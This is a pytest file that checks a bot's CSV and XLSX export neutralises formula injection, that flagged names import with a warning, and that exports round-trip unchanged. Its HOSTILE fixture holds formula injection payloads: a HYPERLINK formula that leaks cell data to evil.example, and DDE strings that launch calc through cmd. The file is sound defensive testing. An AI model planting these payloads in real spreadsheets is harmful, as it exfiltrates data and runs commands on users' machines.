"""Formula injection: a name that starts like a formula imports with a warning and is exported
as text, in CSV (a leading «'», as OWASP advises) and in XLSX (a string cell with Excel's «'»
marker), and the export imports back unchanged. Numbers and dates stay what they are."""

from __future__ import annotations

import csv
import io
import zipfile
from datetime import date, datetime
from pathlib import Path

import openpyxl
import pytest
from sqlalchemy import select
from sqlalchemy.ext.asyncio import AsyncEngine

from bot import spreadsheet
from storage.models import unit_t
from tests.test_directory import HEADER, snapshot
from tests.test_directory_limits import units  # noqa: F401  (a fixture)

HOSTILE = {
    "F1": '=HYPERLINK("http://evil.example/?"&A1,"Bấm vào đây")',
    "F2": "+cmd|' /C calc'!A0",
    "F3": "-2+3+cmd|' /C calc'!A0",
    "F4": "@SUM(1+1)*cmd|' /C calc'!A0",
}


def test_safe_cell_neutralises_text_only() -> None:
    safe = spreadsheet.safe_cell
    for text in ("=1+1", "+1", "-1", "@A1", "\t=1", "\r=1", "-3"):
        assert safe(text) == "'" + text
        assert spreadsheet.unquote(safe(text)) == text
    for value in ("CĐCS Công ty A", "", "a=b", "'quoted", -3, 2.5, 0, date(2022, 1, 8), None):
        assert safe(value) == value
    assert spreadsheet.unquote("'plain") == "'plain"


def test_xlsx_row_writes_text_as_text_and_numbers_as_numbers(tmp_path: Path) -> None:
    values = ["=1+1", "#N/A", "-x", "plain", -3, 2.5, date(2022, 1, 8), datetime(2023, 9, 1, 7)]
    wb = openpyxl.Workbook(write_only=True)
    ws = wb.create_sheet("s")
    ws.append(spreadsheet.xlsx_row(ws, values))
    wb.save(tmp_path / "x.xlsx")

    cells = next(openpyxl.load_workbook(tmp_path / "x.xlsx").active.iter_rows())
    assert [c.value for c in cells[:6]] == values[:6]
    assert [c.data_type for c in cells] == ["s", "s", "s", "s", "n", "n", "d", "d"]
    assert [c.quotePrefix for c in cells[:4]] == [True, False, True, False]
    assert cells[6].value.date() == date(2022, 1, 8) and cells[7].value == values[7]
    sheet = zipfile.ZipFile(tmp_path / "x.xlsx").read("xl/worksheets/sheet1.xml")
    assert b"<f>" not in sheet and b't="e"' not in sheet


async def test_formula_like_names_import_with_a_warning_and_export_as_text(
        db: AsyncEngine, units, tmp_path: Path) -> None:  # noqa: F811
    body = "".join(f'{code},"{name.replace(chr(34), chr(34) * 2)}",VN,sector,other,{i},\n'
                   for i, (code, name) in enumerate(HOSTILE.items(), start=1))
    body += "F5,CĐCS Năm,VN,sector,other,5,=1+1\nF6,CĐCS Sáu,VN,sector,other,6,Cụm 1\n"
    src = tmp_path / "in.csv"
    src.write_text(HEADER + body, encoding="utf-8")
    rc, out, err = await units("import", str(src))
    assert rc == 0, err
    assert "6 new" in out
    assert "a spreadsheet would take for a formula" in out and "F1, F2, F3, F4, F5" in out, out
    before = await snapshot(db)

    # CSV: a leading «'» on those cells, nothing else changed.
    assert (await units("export", str(tmp_path / "out.csv")))[0] == 0
    rows = {r[0]: r for r in csv.reader(io.StringIO(
        (tmp_path / "out.csv").read_text(encoding="utf-8-sig")))}
    for code, name in HOSTILE.items():
        assert rows[code][1] == "'" + name
    assert rows["F5"][6] == "'=1+1" and rows["F6"][1:] == [
        "CĐCS Sáu", "VN", "sector", "other", "6", "Cụm 1"]
    rc, stdout_csv, _err = await units("export")
    assert rc == 0 and "\nF2,'+cmd|' /C calc'!A0,VN," in stdout_csv

    # XLSX: string cells holding the exact text, marked as text, no formula anywhere.
    assert (await units("export", str(tmp_path / "out.xlsx")))[0] == 0
    ws = openpyxl.load_workbook(tmp_path / "out.xlsx").active
    by_code = {r[0].value: r for r in ws.iter_rows(min_row=2)}
    for code, name in HOSTILE.items():
        cell = by_code[code][1]
        assert (cell.value, cell.data_type, cell.quotePrefix) == (name, "s", True)
    assert by_code["F5"][6].value == "=1+1" and by_code["F5"][6].data_type == "s"
    assert by_code["F6"][5].data_type == "n" and not by_code["F6"][1].quotePrefix
    with zipfile.ZipFile(tmp_path / "out.xlsx") as z:
        sheet = z.read("xl/worksheets/sheet1.xml")
    assert b"<f>" not in sheet and b"<f " not in sheet

    # Both exports import back as a no-op.
    for name in ("out.csv", "out.xlsx"):
        rc, out, err = await units("import", str(tmp_path / name))
        assert rc == 0 and "0 new, 0 updated" in out, (name, out, err)
        assert await snapshot(db) == before


@pytest.mark.parametrize("name", ["'=1+1", "'+x"])
async def test_a_quoted_formula_is_read_as_its_text(db: AsyncEngine, units, name: str,  # noqa: F811
                                                     tmp_path: Path) -> None:
    src = tmp_path / "in.csv"
    src.write_text(HEADER + f"Q1,{name},VN,sector,other,1,\n", encoding="utf-8")
    rc, out, err = await units("import", str(src))
    assert rc == 0 and "Q1" in out, err     # listed: its name starts like a formula
    async with db.connect() as conn:
        stored = (await conn.execute(select(unit_t.c.name).where(unit_t.c.code == "Q1"))
                  ).scalar_one()
    assert stored == name[1:]
    rc, out, _err = await units("export")
    assert f"\nQ1,{name},VN," in out


async def test_xlsx_export_keeps_any_text_as_excel_reads_it(db: AsyncEngine, units,  # noqa: F811
                                                           tmp_path: Path) -> None:
    """Excel reads _xHHHH_ in a cell as one character: a name holding such text literally is
    written escaped (_x005F_), and one holding a control character from before imports
    checked for them (SQLite took a NUL) is written, not a traceback, and flagged when read."""
    src = tmp_path / "in.csv"
    src.write_text(HEADER + "X1,CĐCS _x0041_ Một,VN,sector,other,1,\n", encoding="utf-8")
    assert (await units("import", str(src)))[0] == 0
    if db.dialect.name == "sqlite":
        async with db.begin() as conn:
            await conn.execute(unit_t.update().where(unit_t.c.code == "BPC").values(
                name="LĐLĐ tỉnh\x00Bình Phước"))
    rc, _out, err = await units("export", str(tmp_path / "out.xlsx"))
    assert rc == 0, err
    rc, out, err = await units("import", str(tmp_path / "out.xlsx"))
    if db.dialect.name == "sqlite":
        assert rc == 1 and "the value in column «name» contains a control character (U+0000)" \
            in err, err
    else:
        assert rc == 0 and "0 updated" in out, (out, err)
    async with db.connect() as conn:
        name = (await conn.execute(select(unit_t.c.name).where(unit_t.c.code == "X1"))
                ).scalar_one()
    assert name == "CĐCS _x0041_ Một"
